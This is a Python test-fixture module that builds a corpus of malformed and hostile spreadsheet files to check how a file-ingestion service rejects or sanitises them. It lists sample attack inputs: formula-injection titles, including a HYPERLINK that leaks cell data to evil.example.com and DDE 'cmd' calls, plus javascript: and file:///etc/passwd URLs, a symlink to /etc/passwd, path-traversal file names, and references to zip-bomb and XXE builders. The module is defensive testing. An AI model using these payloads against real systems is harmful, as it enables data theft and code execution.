"""The cases of the corpus: each file, how it is made and what ingesting it must do.

Nothing here is committed as a binary: every file is written from code, most of them as
raw OOXML parts zipped by hand, so that the odd ones (a million rows, a column at XFD,
a bomb) are exact and fast to make. Each :class:`Case` says what a user of SmartCrop
must see once the file has gone through ingestion:

- ``ingested``: recorded ``ingested`` with ``items`` new work items and ``rejected``
  rejected rows (each with its reason);
- ``failed``: recorded ``failed`` with an error starting with ``kind``, moved to the
  quarantine folder, and nothing of it in ``smartcrop_inputfiles``;
- ``ignored``: not a manifest file at all (a folder, a link, a FIFO): a watched folder
  leaves it where it is and nothing is recorded.
"""

from __future__ import annotations

import os
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

from tests.support.corpus.containers import (
    crc_error,
    deflate,
    encrypted_entry,
    lying_bomb,
    ole_file,
    shared_strings_attack,
    sheet_with_dtd,
    zip_bomb,
    zip_raw,
)
from tests.support.corpus.odd_sheets import (
    data_after_a_million_rows,
    dates_in_id_column,
    formulas,
    merged_headers,
    million_empty_rows,
    stray_cell_at_the_end,
    wide_header,
    wide_table,
)
from tests.support.corpus.ooxml import (
    PRESS,
    good,
    row,
    row_xml,
    sheet_xml,
    table,
    workbook,
)

NOT_READABLE = "not a readable workbook"
NO_HEADER_ROW = "no header row"
NO_PROVIDER_PREFIX = "no provider prefix"
# Things that must never reach the database from a hostile file.
FORBIDDEN_TEXT = ("root:x:0:0", "lol" * 50)
FORMULA_TITLES = (
    '=HYPERLINK("http://evil.example.com/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
)

Outcome = Literal["ingested", "failed", "ignored"]


@dataclass(frozen=True)
class Case:
    id: str
    name: str | bytes  # bytes: a name that is not UTF-8 (fine on Linux)
    # Writes the entry at the given path; the text is a programme-id prefix unique to
    # the case, so that cases never share content or work items with each other.
    build: Callable[[Path, str], None]
    outcome: Outcome
    kind: str = ""  # failed: how the recorded error starts
    items: int = 0  # ingested: new work items
    rejected: int = 0  # ingested: rejected rows
    reasons: tuple[str, ...] = ()  # ingested: texts the rejected rows' reasons hold
    titles: tuple[str, ...] = field(default=())  # ingested: titles stored verbatim
    outside: bool = False  # the entry points outside the folder (links)

    @property
    def fs_name(self) -> str:
        """The name as Python sees it on this file system (surrogates for bytes)."""
        return os.fsdecode(self.name)

    @property
    def shown_name(self) -> str:
        """The name as SmartCrop records and shows it (undecodable bytes -> U+FFFD)."""
        return os.fsencode(self.fs_name).decode("utf-8", "replace")


def write_bytes(content: Callable[[str], bytes]) -> Callable[[Path, str], None]:
    def build(path: Path, p: str) -> None:
        path.write_bytes(content(p))

    return build


def rows_of(*rows: Callable[[str], list], header_row: int = 1) -> Callable[..., None]:
    """A press-site table whose rows are built from the case's programme prefix."""
    return write_bytes(lambda p: table([r(p) for r in rows], header_row=header_row))


def make_dir(path: Path, p: str) -> None:
    path.mkdir()
    (path / "inside.xlsx").write_bytes(good(p))


def make_fifo(path: Path, p: str) -> None:
    os.mkfifo(path)


def link_to(target_of: Callable[[Path, str], Path]) -> Callable[[Path, str], None]:
    def build(path: Path, p: str) -> None:
        path.symlink_to(target_of(path, p))

    return build


def _outside_manifest(path: Path, p: str) -> Path:
    outside = path.parent.parent / "outside"
    outside.mkdir(exist_ok=True)
    target = outside / f"NBCU_{p}_secret.xlsx"
    target.write_bytes(good(p))
    return target


def _truncated(p: str) -> bytes:
    book = good(p, 20)
    return book[: len(book) // 2]


def _injection_titles(p: str) -> bytes:
    return table([row(f"{p}{i}", title) for i, title in enumerate(FORMULA_TITLES)])


LONG_STEM = "NBCU_" + "a" * 245  # + ".xlsx": 255 bytes, the longest ext4 allows
HUGE_TITLE = "T" * 2_000_000

# fmt: off
CASES: tuple[Case, ...] = (
    # -- not workbooks at all ---------------------------------------------------------
    Case("zero_byte", "NBCU_zero.xlsx", write_bytes(lambda p: b""), "failed",
         NOT_READABLE),
    Case("blank_text", "NBCU_blank.xlsx",
         write_bytes(lambda p: b" \n\t\n" + p.encode()), "failed", NOT_READABLE),
    Case("truncated_zip", "NBCU_truncated.xlsx", write_bytes(_truncated), "failed",
         NOT_READABLE),
    Case("zip_bomb", "NBCU_bomb.xlsx", write_bytes(zip_bomb), "failed", NOT_READABLE),
    Case("lying_zip_bomb", "NBCU_liar.xlsx", write_bytes(lying_bomb), "failed",
         NOT_READABLE),
    Case("password_protected", "NBCU_protected.xlsx",
         write_bytes(lambda p: ole_file("EncryptedPackage", p)), "failed",
         NOT_READABLE),
    Case("xls_renamed", "NBCU_legacy.xlsx",
         write_bytes(lambda p: ole_file("Workbook", p)), "failed", NOT_READABLE),
    Case("csv_renamed", "NBCU_csv.xlsx",
         write_bytes(lambda p: f"Program ID,Program Title,Image URL\n{p},T,"
                     "https://x.example.com/1.jpg\n".encode()),
         "failed", NOT_READABLE),
    Case("html_renamed", "NBCU_html.xlsx",
         write_bytes(lambda p: f"<html><table><tr><td>{p}</td></tr></table>".encode()),
         "failed", NOT_READABLE),
    Case("zip_without_workbook", "NBCU_zip.xlsx",
         write_bytes(lambda p: zip_raw([("readme.txt", deflate(p.encode()),
                                         zlib.crc32(p.encode()), len(p), 0)])),
         "failed", NOT_READABLE),
    Case("encrypted_zip_entry", "NBCU_zipcrypto.xlsx", write_bytes(encrypted_entry),
         "failed", NOT_READABLE),
    Case("crc_error", "NBCU_crc.xlsx", write_bytes(crc_error), "failed", NOT_READABLE),
    Case("no_sheets", "NBCU_nosheets.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(row_xml(1, [p])),
                                        sheets="<sheets/>")),
         "failed", NOT_READABLE),
    Case("xxe_in_sheet", "NBCU_xxe.xlsx", write_bytes(sheet_with_dtd), "failed",
         NOT_READABLE),
    Case("xxe_in_shared_strings", "NBCU_sst_xxe.xlsx",
         write_bytes(lambda p: shared_strings_attack("xxe", p)), "failed",
         NOT_READABLE),
    Case("billion_laughs_in_shared_strings", "NBCU_laughs.xlsx",
         write_bytes(lambda p: shared_strings_attack("laughs", p)), "failed",
         NOT_READABLE),
    Case("sixteen_k_columns_on_every_row", "NBCU_wide_table.xlsx",
         write_bytes(wide_table), "failed", NOT_READABLE),
    Case("value_in_xfd1048576", "NBCU_stray.xlsx", write_bytes(stray_cell_at_the_end),
         "failed", NOT_READABLE),
    # -- workbooks without a usable header ---------------------------------------------
    Case("headers_on_row_11", "NBCU_row11.xlsx",
         rows_of(lambda p: row(f"{p}1"), header_row=11), "failed", NO_HEADER_ROW),
    Case("empty_sheet", "NBCU_empty_sheet.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(""),
                                        extra_parts={"x.txt": p.encode()})),
         "failed", NO_HEADER_ROW),
    Case("headers_in_lower_case", "NBCU_lower.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(
             row_xml(1, [h.lower() for h in PRESS]) + row_xml(2, row(p))))),
         "failed", NO_HEADER_ROW),
    Case("excel_lock_file", "~$NBCU_open_in_excel.xlsx",
         write_bytes(lambda p: b"\x0bJane Doe   " + p.encode() + bytes(150)), "failed",
         NO_PROVIDER_PREFIX),
    Case("traversal_before_the_prefix", "..%2f..%2fNBCU_x.xlsx", write_bytes(good),
         "failed", NO_PROVIDER_PREFIX),
    # -- odd but readable: ingested, bad rows rejected with reasons --------------------
    Case("headers_on_row_10", "NBCU_row10.xlsx",
         rows_of(lambda p: row(f"{p}1"), lambda p: row(f"{p}2"), header_row=10),
         "ingested", items=2),
    Case("merged_header_cells", "NBCU_merged.xlsx", write_bytes(merged_headers),
         "ingested", items=2),
    Case("dates_in_id_column", "NBCU_dates.xlsx", write_bytes(dates_in_id_column),
         "ingested", items=2),
    Case("formulas", "NBCU_formulas.xlsx", write_bytes(formulas), "ingested", items=2,
         rejected=1, reasons=("missing image URL",), titles=("Night Court",)),
    Case("formula_injection_titles", "NBCU_injection.xlsx",
         write_bytes(_injection_titles), "ingested", items=len(FORMULA_TITLES),
         titles=tuple(t.strip() for t in FORMULA_TITLES)),
    Case("huge_cell", "NBCU_huge_cell.xlsx",
         rows_of(lambda p: row(f"{p}1", HUGE_TITLE), lambda p: row(f"{p}2")),
         "ingested", items=2, titles=(HUGE_TITLE,)),
    Case("long_ids_and_seasons", "NBCU_long_ids.xlsx",
         rows_of(lambda p: row(p + "9" * 300), lambda p: row(f"{p}2", season="S" * 40),
                 lambda p: row(f"{p}3", season="3")),
         "ingested", items=1, rejected=2,
         reasons=("program id is too long", "season is too long")),
    Case("hostile_urls", "NBCU_urls.xlsx",
         rows_of(lambda p: row(f"{p}1", url="javascript:alert(1)"),
                 lambda p: row(f"{p}2", url="file:///etc/passwd"),
                 lambda p: row(f"{p}3", url="data:text/html,<b>x</b>"),
                 lambda p: row(f"{p}4")),
         "ingested", items=1, rejected=3, reasons=("image URL is not http(s)",)),
    Case("absurd_numbers", "NBCU_numbers.xlsx",
         rows_of(lambda p: row(f"{p}1", width=1e300),
                 lambda p: row(f"{p}2", height=-1),
                 lambda p: row(f"{p}3", width="\0e:#REF!"),
                 lambda p: row(f"{p}4", height="\0e:#DIV/0!"),
                 lambda p: row(f"{p}5")),
         # python-calamine hands an error cell over as "": a blank size, which is
         # allowed (it is read from the image itself later).
         "ingested", items=3, rejected=2,
         reasons=("width is too large", "height is not a positive whole number")),
    Case("nul_and_control_characters", "NBCU_control.xlsx",
         rows_of(lambda p: row(f"{p}1", "Night\u202eCourt\u200b \u0007"),
                 lambda p: row(f"{p}2", "_x0000_Nul\x00l")),
         "ingested", items=2),
    Case("ten_thousand_duplicates", "NBCU_dupes.xlsx",
         write_bytes(lambda p: table([row(f"{p}1")] * 10_000)), "ingested", items=1),
    Case("header_only", "NBCU_header_only.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(row_xml(1, PRESS)),
                                        extra_parts={"x.txt": p.encode()})),
         "ingested", items=0),
    Case("million_empty_rows", "NBCU_million_rows.xlsx",
         write_bytes(million_empty_rows), "ingested", items=2),
    Case("data_after_a_million_rows", "NBCU_bottom_row.xlsx",
         write_bytes(data_after_a_million_rows), "ingested", items=2),
    Case("sixteen_k_column_header", "NBCU_wide_header.xlsx", write_bytes(wide_header),
         "ingested", items=20),
    # -- odd names ---------------------------------------------------------------------
    Case("non_utf8_name", b"NBCU_caf\xe9_\xff.xlsx", write_bytes(good), "ingested",
         items=3),
    Case("traversal_in_name", "NBCU_..%2f..%2fx.xlsx", write_bytes(good), "ingested",
         items=3),
    Case("dots_and_spaces_name", "NBCU_ ..  .. .xlsx", write_bytes(good), "ingested",
         items=3),
    Case("very_long_name", LONG_STEM + ".xlsx", write_bytes(good), "ingested", items=3),
    Case("upper_case_extension", "NBCU_UPPER.XLSX", write_bytes(good), "ingested",
         items=3),
    Case("hash_and_question_mark_name", "NBCU_week#12?.xlsx", write_bytes(good),
         "ingested", items=3),
    # -- not regular files: left alone -------------------------------------------------
    Case("directory_named_xlsx", "NBCU_folder.xlsx", make_dir, "ignored"),
    Case("fifo_named_xlsx", "NBCU_fifo.xlsx", make_fifo, "ignored"),
    Case("symlink_to_etc_passwd", "NBCU_passwd.xlsx",
         link_to(lambda path, p: Path("/etc/passwd")), "ignored", outside=True),
    Case("symlink_to_manifest_outside", "NBCU_link.xlsx", link_to(_outside_manifest),
         "ignored", outside=True),
    Case("dangling_symlink", "NBCU_dangling.xlsx",
         link_to(lambda path, p: path.parent / "nowhere.xlsx"), "ignored"),
)
# fmt: on


def prefix_of(case: Case) -> str:
    return f"SH{CASES.index(case):03d}X"


def create(case: Case, folder: Path) -> Path:
    """Write the case's entry into ``folder``; return its path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), os.fsencode(case.name))))
    case.build(path, prefix_of(case))
    return path


def by_id(case_id: str) -> Case:
    return next(case for case in CASES if case.id == case_id)
